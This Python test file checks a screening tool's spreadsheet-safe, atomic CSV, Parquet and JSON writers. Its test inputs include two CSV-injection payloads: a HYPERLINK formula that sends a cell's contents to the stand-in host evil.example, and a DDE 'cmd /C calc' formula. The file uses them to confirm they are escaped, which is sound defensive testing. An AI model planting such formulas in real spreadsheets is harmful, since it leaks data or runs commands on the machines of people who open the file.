"""Spreadsheet-safe, atomic writers: what an analyst opens must neither run formulas nor be
half-written."""

from __future__ import annotations

import datetime as dt
import json

import pandas as pd
import pyarrow as pa
import pyarrow.parquet as pq
import pytest

from screening.io import (
    escape_formulas_in_table,
    escape_spreadsheet_formula,
    write_csv_atomic,
    write_json_atomic,
    write_parquet_atomic,
    writers,
)

HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        (HYPERLINK, "'" + HYPERLINK),
        ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
        ("-1+2", "'-1+2"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("-5", "-5"),  # a plain number runs nothing
        ("+7.5", "+7.5"),
        ("ООО «Ромашка»", "ООО «Ромашка»"),
        ("A=B LLC", "A=B LLC"),
        ("", ""),
    ],
)
def test_escape_spreadsheet_formula(value, expected):
    assert escape_spreadsheet_formula(value) == expected


def _sample() -> pa.Table:
    return pa.table(
        {
            "name": [HYPERLINK, "+cmd", "-1+2", "@SUM(A1)", "ООО Ромашка", None],
            "amount": pa.array([-5.0, 1.5, -2.0, 0.0, 3.0, None]),
            "count": pa.array([-5, 1, 2, 3, 4, 5]),
            "aliases": [["=x", "ok"], None, [], ["-1+2"], ["ТОО Весна"], ["a"]],
        }
    )


def test_escape_formulas_in_table_keeps_numbers_numeric():
    escaped = escape_formulas_in_table(_sample())
    assert escaped.column("name").to_pylist() == [
        "'" + HYPERLINK,
        "'+cmd",
        "'-1+2",
        "'@SUM(A1)",
        "ООО Ромашка",
        None,
    ]
    assert escaped.schema.field("amount").type == pa.float64()
    assert escaped.column("amount").to_pylist() == [-5.0, 1.5, -2.0, 0.0, 3.0, None]
    assert escaped.column("count").to_pylist() == [-5, 1, 2, 3, 4, 5]
    assert escaped.column("aliases").to_pylist() == [
        ["'=x", "ok"],
        None,
        [],
        ["'-1+2"],
        ["ТОО Весна"],
        ["a"],
    ]


def test_escape_formulas_in_a_pandas_frame():
    frame = pd.DataFrame({"party": ["=1+1", "Vesna"], "value": [-5, 7]})
    escaped = escape_formulas_in_table(frame)
    assert escaped.column("party").to_pylist() == ["'=1+1", "Vesna"]
    assert escaped.column("value").to_pylist() == [-5, 7]


def test_csv_has_bom_escapes_formulas_and_round_trips_cyrillic(tmp_path):
    path = write_csv_atomic(_sample(), tmp_path / "hits.csv")
    data = path.read_bytes()
    assert data.startswith(b"\xef\xbb\xbf")
    back = pd.read_csv(path, encoding="utf-8-sig")
    assert back.columns.tolist() == ["name", "amount", "count", "aliases"]
    assert back.name.tolist()[:5] == ["'" + HYPERLINK, "'+cmd", "'-1+2", "'@SUM(A1)", "ООО Ромашка"]
    assert pd.isna(back.name.iloc[5])
    assert back["count"].tolist() == [-5, 1, 2, 3, 4, 5]  # negative numbers stay numbers
    assert back.amount.iloc[0] == -5.0
    assert back.aliases.iloc[0] == "'=x; ok"  # list cells joined, then escaped
    assert back.aliases.iloc[4] == "ТОО Весна"


def test_csv_without_bom(tmp_path):
    path = write_csv_atomic(pd.DataFrame({"a": ["Ж"]}), tmp_path / "plain.csv", bom=False)
    assert path.read_bytes().startswith(b'"a"')


def _only_target_left(folder, name: str) -> bool:
    return sorted(p.name for p in folder.iterdir()) == [name]


def test_failed_csv_write_keeps_the_old_file_and_leaves_no_temp(tmp_path, monkeypatch):
    target = tmp_path / "report.csv"
    target.write_text("old report\n", encoding="utf-8")

    def crash_mid_write(table, handle, *args, **kwargs):
        handle.write(b"partial,rows\n")
        raise OSError("disk full")

    monkeypatch.setattr(writers.pa_csv, "write_csv", crash_mid_write)
    with pytest.raises(OSError, match="disk full"):
        write_csv_atomic(_sample(), target)
    assert target.read_text(encoding="utf-8") == "old report\n"
    assert _only_target_left(tmp_path, "report.csv")


def test_failed_parquet_and_json_writes_keep_the_old_file(tmp_path, monkeypatch):
    parquet = tmp_path / "records.parquet"
    write_parquet_atomic(_sample(), parquet)
    before = parquet.read_bytes()

    def crash(table, handle, *args, **kwargs):
        handle.write(b"PAR1 garbage")
        raise RuntimeError("killed")

    monkeypatch.setattr(writers.pq, "write_table", crash)
    with pytest.raises(RuntimeError):
        write_parquet_atomic(_sample(), parquet)
    assert parquet.read_bytes() == before

    manifest = tmp_path / "manifest.json"
    write_json_atomic({"run": 1}, manifest)

    class Unprintable:
        def __str__(self) -> str:
            raise ValueError("cannot render")

    with pytest.raises(ValueError):
        write_json_atomic({"run": 2, "bad": Unprintable()}, manifest)
    assert json.loads(manifest.read_text(encoding="utf-8")) == {"run": 1}
    assert sorted(p.name for p in tmp_path.iterdir()) == ["manifest.json", "records.parquet"]


def test_parquet_round_trip_keeps_types(tmp_path):
    path = write_parquet_atomic(_sample(), tmp_path / "out" / "records.parquet")
    assert pq.read_table(path).equals(_sample())
    frame = pd.DataFrame({"x": [1.5, -2.0]})
    assert pq.read_table(write_parquet_atomic(frame, tmp_path / "f.parquet")).column(
        "x"
    ).to_pylist() == [1.5, -2.0]


def test_json_is_indented_utf8_with_dates_as_text(tmp_path):
    path = write_json_atomic(
        {"listed_on": dt.date(2024, 2, 23), "party": "ООО Ромашка", "path": tmp_path},
        tmp_path / "manifest.json",
    )
    text = path.read_text(encoding="utf-8")
    assert '\n  "listed_on": "2024-02-23"' in text
    assert "ООО Ромашка" in text  # not \u-escaped
    assert json.loads(text)["path"] == str(tmp_path)


def test_csv_in_chunks_equals_the_whole_csv_and_escapes_every_chunk(tmp_path):
    whole = _sample()
    chunks = [whole.slice(start, 2) for start in range(0, whole.num_rows, 2)]
    assert chunks[1]["name"][0].as_py() == "-1+2", "a formula in a later chunk"
    chunked = writers.write_csv_chunks_atomic(iter(chunks), tmp_path / "chunked.csv")
    assert chunked.read_bytes() == write_csv_atomic(whole, tmp_path / "whole.csv").read_bytes()
    assert b"'-1+2" in chunked.read_bytes()


def test_csv_in_chunks_refuses_a_chunk_of_other_types_and_keeps_the_old_file(tmp_path):
    target = tmp_path / "flagged.csv"
    target.write_text("old\n", encoding="utf-8")
    tables = [pa.table({"value": pa.array([1.5])}), pa.table({"value": pa.array(["x"])})]
    with pytest.raises(ValueError, match="differ from the first chunk"):
        writers.write_csv_chunks_atomic(tables, target)
    assert target.read_text(encoding="utf-8") == "old\n"
    assert _only_target_left(tmp_path, "flagged.csv")
